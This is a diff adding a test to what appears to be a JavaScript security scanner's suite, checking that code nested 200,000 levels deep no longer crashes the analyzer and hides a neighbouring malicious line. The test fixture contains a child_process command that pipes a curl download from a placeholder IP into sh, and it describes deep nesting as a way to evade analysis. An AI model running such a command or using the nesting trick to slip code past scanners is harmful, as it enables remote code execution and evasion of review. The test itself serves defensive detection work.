@@ -44,4 +44,14 @@ describe('JS-000 unparseable-code', () => {
     expect(few.ast).toBeDefined();
     expect(few.parser).toBe('acorn-loose');
   });
+  it('analyses what it can of a file nested deeper than any real code, and says so', async () => {
+    // a 200,000-term chain is a tree 200,000 levels deep: the recursive walk ran out of stack and
+    // the whole JavaScript analyzer failed, hiding the command next to it
+    const code = `var x = ${'a+'.repeat(200_000)}a;\nrequire('child_process').exec('curl -s http://192.0.2.1/x | sh');\n`;
+    const f = await jsFindings({ 'index.js': code });
+    const deep = f.find((x) => x.ruleId === 'JS-000');
+    expect(deep?.message).toMatch(/nests code deeper than 1500 levels/);
+    expect(deep?.severity).toBe('medium');
+    expect(f.some((x) => x.ruleId === 'JS-001' && /curl/.test(x.message))).toBe(true);
+  });
 });
